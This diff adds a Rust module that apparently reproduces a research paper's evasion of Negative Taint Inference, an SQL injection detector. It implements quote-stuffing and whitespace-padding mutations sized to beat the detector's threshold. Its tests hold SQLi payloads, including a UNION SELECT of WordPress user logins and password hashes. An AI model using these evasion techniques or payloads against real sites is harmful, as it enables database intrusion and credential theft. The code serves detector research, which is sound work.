@@ -1,0 +1,232 @@
+//! NTI-evasion mutations (§III-A, §V-A).
+//!
+//! "We mutated the original attacks by incorporating comment blocks that
+//! included quotes. Regardless of the threshold used by NTI for
+//! determining a match, an attacker can evade NTI by simply adding enough
+//! quotes to ensure that the attack input is above the threshold."
+//!
+//! The framework applies magic quotes to every input, so each quote in
+//! the raw payload gains a backslash in the query — driving the edit
+//! distance, and thus the difference ratio, past any fixed threshold. The
+//! alternative strategy pads the payload with whitespace that a trimming
+//! application strips.
+
+use crate::corpus::{Exploit, VulnPlugin};
+
+/// Which input transformation the mutation exploits.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum NtiEvasionStrategy {
+    /// Insert a `/*'…'*/` comment block; magic quotes inflate the edit
+    /// distance by one backslash per quote.
+    QuoteStuffing {
+        /// Number of quotes to stuff.
+        quotes: usize,
+    },
+    /// Append whitespace that the application trims away.
+    WhitespacePadding {
+        /// Number of spaces to append.
+        spaces: usize,
+    },
+}
+
+/// Picks a quote count that pushes the difference ratio past `threshold`
+/// for a payload of the given length: `quotes / (len + block)` must exceed
+/// the threshold with margin.
+pub fn quotes_needed(payload_len: usize, threshold: f64) -> usize {
+    // distance = quotes (one backslash each); matched length ≈ payload len
+    // + comment block incl. escaped quotes (2 bytes per quote) + 4 for the
+    // delimiters. Solve quotes > t·(L + 2q + 4) with 2× safety margin.
+    //
+    // Each stuffed quote adds 1 to the distance and 2 to the matched
+    // length, so the achievable difference ratio approaches (but never
+    // reaches) 0.5: quote stuffing defeats any *usable* NTI threshold —
+    // thresholds at or above 0.5 mark half of everything and are already
+    // unusable for false-positive reasons (§III-A). Clamp so the sizing
+    // formula stays finite.
+    let t = threshold.min(0.45);
+    let base = (t * (payload_len as f64 + 4.0)) / (1.0 - 2.0 * t);
+    ((base * 2.0).ceil() as usize).max(8)
+}
+
+fn stuff(payload: &str, quotes: usize) -> String {
+    stuff_block(payload, &"'".repeat(quotes))
+}
+
+fn stuff_block(payload: &str, filler: &str) -> String {
+    let block = format!("/*{filler}*/");
+    // Replace the first space with the comment block (comments are
+    // whitespace to SQL), or append when there is no space.
+    match payload.find(' ') {
+        Some(i) => format!("{}{}{}", &payload[..i], block, &payload[i + 1..]),
+        None => format!("{payload}{block}"),
+    }
+}
+
+/// Picks a trailing-space count for trimming applications (§III-A: "an
+/// attacker can also leverage whitespace trimming … by appending an
+/// arbitrary number of whitespaces"). The application removes all n
+/// spaces, so the distance is ~n against a matched span of ~L and the
+/// ratio n/(L + n) tends to 1. Oversize generously: trailing spaces in
+/// the raw input may coincidentally align with whitespace in the query
+/// text that follows the injection point.
+pub fn spaces_needed(payload_len: usize, threshold: f64) -> usize {
+    let t = threshold.min(0.90);
+    let n = (t * (payload_len as f64 + 4.0)) / (1.0 - t);
+    ((n * 3.0).ceil() as usize).max(24) + payload_len
+}
+
+fn pad(payload: &str, spaces: usize) -> String {
+    format!("{payload}{}", " ".repeat(spaces))
+}
+
+/// Applies the strategy to one payload string.
+pub fn mutate_payload(payload: &str, strategy: NtiEvasionStrategy) -> String {
+    match strategy {
+        NtiEvasionStrategy::QuoteStuffing { quotes } => stuff(payload, quotes),
+        NtiEvasionStrategy::WhitespacePadding { spaces } => pad(payload, spaces),
+    }
+}
+
+/// Mutates a plugin's exploit for NTI evasion, sized against `threshold`.
+///
+/// Strategy selection mirrors what an attacker probing the application
+/// would land on: plugins that `trim` their input get whitespace padding
+/// (the trim deletes every padded space, inflating the distance without
+/// bound — the paper's second named channel); everything else gets the
+/// paper's quote stuffing. Plugins that `stripslashes` exactly undo magic
+/// quotes, so *no* escaping-based evasion can work there — for those,
+/// trimming (which the same plugins do in practice) is the only channel.
+///
+/// For plugins that base64-decode their parameter, the stuffing happens
+/// inside the encoding envelope (decode → stuff → re-encode); NTI already
+/// misses those originals, but the mutated exploit must keep working.
+pub fn mutate_for_nti(plugin: &VulnPlugin, threshold: f64) -> Exploit {
+    let b64 = plugin.decodes_base64();
+    let trims = plugin.source.contains("trim(");
+    let mutate = |p: &str| {
+        let raw = if b64 {
+            joza_phpsim::builtins::base64_decode(p).unwrap_or_else(|| p.to_string())
+        } else {
+            p.to_string()
+        };
+        let strategy = if trims {
+            NtiEvasionStrategy::WhitespacePadding { spaces: spaces_needed(raw.len(), threshold) }
+        } else {
+            NtiEvasionStrategy::QuoteStuffing { quotes: quotes_needed(raw.len(), threshold) }
+        };
+        let stuffed = mutate_payload(&raw, strategy);
+        if b64 {
+            joza_phpsim::builtins::base64_encode(stuffed.as_bytes())
+        } else {
+            stuffed
+        }
+    };
+    match &plugin.exploit {
+        Exploit::Leak { payload, leak_marker } => Exploit::Leak {
+            payload: mutate(payload),
+            leak_marker: leak_marker.clone(),
+        },
+        Exploit::BooleanDiff { true_payload, false_payload } => Exploit::BooleanDiff {
+            true_payload: mutate(true_payload),
+            false_payload: mutate(false_payload),
+        },
+        Exploit::TimingDiff { slow_payload, fast_payload, min_delay_ms } => Exploit::TimingDiff {
+            slow_payload: mutate(slow_payload),
+            fast_payload: mutate(fast_payload),
+            min_delay_ms: *min_delay_ms,
+        },
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use joza_nti::{NtiAnalyzer, NtiConfig};
+    use joza_phpsim::builtins::addslashes;
+
+    #[test]
+    fn quote_stuffing_preserves_sql_validity() {
+        let m = stuff("1 OR 1=1", 10);
+        assert!(m.starts_with("1/*"));
+        assert!(m.contains("''''''''''"));
+        assert!(m.ends_with("OR 1=1"));
+        // The query still parses after magic quotes.
+        let q = format!("SELECT * FROM t WHERE id={}", addslashes(&m));
+        assert!(joza_sqlparse::parse(&q).is_ok(), "{q}");
+    }
+
+    #[test]
+    fn stuffed_payload_evades_nti() {
+        let nti = NtiAnalyzer::new(NtiConfig::default());
+        let raw = "1 OR 1=1";
+        let stuffed = stuff(raw, quotes_needed(raw.len(), 0.20));
+        let escaped = addslashes(&stuffed);
+        let q = format!("SELECT name FROM items WHERE hidden=0 AND cat={escaped}");
+        let report = nti.analyze(&[stuffed.as_str()], &q);
+        assert!(!report.is_attack(), "{report:?}");
+        // The unstuffed original is detected.
+        let q0 = format!("SELECT name FROM items WHERE hidden=0 AND cat={raw}");
+        assert!(nti.analyze(&[raw], &q0).is_attack());
+    }
+
+    #[test]
+    fn quotes_needed_scales_with_length() {
+        assert!(quotes_needed(10, 0.2) >= 8);
+        assert!(quotes_needed(100, 0.2) > quotes_needed(10, 0.2));
+        // Higher thresholds need more quotes.
+        assert!(quotes_needed(50, 0.3) > quotes_needed(50, 0.1));
+    }
+
+    #[test]
+    fn whitespace_padding_strategy() {
+        let m = mutate_payload("1 OR 1=1", NtiEvasionStrategy::WhitespacePadding { spaces: 20 });
+        assert_eq!(m.len(), 28);
+        assert!(m.ends_with("          "));
+    }
+
+    #[test]
+    fn mutate_for_nti_covers_all_exploit_kinds() {
+        for p in crate::corpus::corpus().iter().take(25) {
+            let m = mutate_for_nti(p, 0.20);
+            let payload = if p.decodes_base64() {
+                joza_phpsim::builtins::base64_decode(m.primary_payload()).unwrap()
+            } else {
+                m.primary_payload().to_string()
+            };
+            // Trimming plugins get whitespace padding; the rest get a
+            // stuffed comment block.
+            if p.source.contains("trim(") {
+                assert!(payload.ends_with(' '), "{}: {payload:?}", p.name);
+            } else {
+                assert!(payload.contains("/*"), "{}: {payload}", p.name);
+            }
+            assert_ne!(payload, p.exploit.primary_payload(), "{}: unmutated", p.name);
+        }
+    }
+
+    #[test]
+    fn stripslashes_exactly_undoes_magic_quotes() {
+        // addslashes → stripslashes is an identity, so escaping-based NTI
+        // evasion is impossible against stripslashes plugins; only the
+        // trim channel works there. This pins the identity down.
+        use joza_phpsim::builtins::stripslashes;
+        for raw in ["1 OR 1=1", "a\\'b", "/*''''*/", "back\\\\slash"] {
+            assert_eq!(stripslashes(&addslashes(raw)), raw);
+        }
+    }
+
+    #[test]
+    fn whitespace_padding_evades_nti_in_trimming_context() {
+        let nti = NtiAnalyzer::new(NtiConfig::default());
+        let raw_payload = "zzz%' UNION SELECT user_login, user_pass FROM wp_users-- -";
+        let padded = pad(raw_payload, spaces_needed(raw_payload.len(), 0.20));
+        // The application trims, so the query sees the unpadded payload.
+        let q = format!(
+            "SELECT name FROM items WHERE hidden=0 AND name LIKE '%{raw_payload}%' ORDER BY id"
+        );
+        let report = nti.analyze(&[padded.as_str()], &q);
+        assert!(!report.is_attack(), "{report:?}");
+        // Unpadded, NTI detects it.
+        assert!(nti.analyze(&[raw_payload], &q).is_attack());
+    }
+}
